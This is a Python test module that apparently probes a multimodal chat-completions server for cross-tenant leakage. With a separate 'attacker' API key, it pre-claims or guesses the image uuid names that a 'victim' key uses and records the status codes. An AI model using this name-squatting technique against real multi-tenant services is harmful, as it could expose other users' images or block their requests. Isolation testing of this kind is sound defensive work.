"""A client with a key of its own that guesses, or takes first, the names that another one uses.

A guessed uuid, or hash, would show the other's picture; one that was taken first would block it.
"""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import httpx

from attacks.neighbours import PICTURE, make_picture_part

VICTIM, ATTACKER = "victim-key", "attacker-key"
FLAGS = ("--api-key", VICTIM, "--api-key", ATTACKER)
CHAT = "/v1/chat/completions"


class Client:
    """A client of the server at `url` with one of the keys."""

    def __init__(self, url: str, key: str) -> None:
        self._url = url.rstrip("/")
        self._headers = {"authorization": f"Bearer {key}"}

    def post(self, path: str, body: Any) -> httpx.Response:
        """Send a request with this client's key."""
        return httpx.post(self._url + path, json=body, headers=self._headers, timeout=300)

    def show(self, uuid: str, picture: bytes | None = PICTURE, **fields: Any) -> httpx.Response:
        """Ask about a picture under a name, or about what the name stands for."""
        nothing: dict[str, Any] = {"type": "image_url", "image_url": None}
        part = nothing if picture is None else make_picture_part(picture)
        return self.post(CHAT, make_chat({**part, "uuid": uuid}, **fields))


def make_chat(part: Any, **fields: Any) -> dict[str, Any]:
    """Return a request that asks what a picture shows."""
    content = [part, {"type": "text", "text": "What is this?"}]
    messages = [{"role": "user", "content": content}]
    return {"messages": messages, "temperature": 0, "max_tokens": 24, **fields}


@contextmanager
def attack(url: str) -> Iterator[list[int]]:
    """Take a hundred names first, and ask for them. The list holds the answers' statuses."""
    attacker = Client(url, ATTACKER)
    names = [f"picture-{number}" for number in range(50)]
    taken = [attacker.show(name).status_code for name in names]
    yield [*taken, *(attacker.show(name, None).status_code for name in names)]
